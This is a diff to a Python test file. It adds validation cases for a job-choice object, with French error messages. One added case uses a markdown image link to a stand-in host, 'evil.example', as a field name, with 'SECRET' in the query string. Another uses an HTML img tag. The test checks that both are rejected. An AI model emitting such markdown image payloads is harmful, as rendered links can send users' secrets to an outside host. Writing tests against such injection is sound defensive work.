@@ -70,6 +70,8 @@ async def test_words_and_markdown_around_the_object_do_no_harm(text: str) -> Non
     [
         (choice(jobs_to_run=REVIEW), "jobs_to_run : liste attendue"),
         (choice(evil=True), "evil : champ inconnu"),
+        (choice(**{"![](//evil.example/q?d=SECRET)": 1}), "(nom illisible) : champ inconnu"),
+        (choice(**{"<img src=x>": 1}), "(nom illisible) : champ inconnu"),
         (choice(*range(5)), "jobs_to_run.0 : texte attendu"),
         (choice(*(f"TYPE_{number}" for number in range(10_000))), "texte trop long"),
         (choice(*["A"] * 21), "jobs_to_run : au plus 20 éléments"),
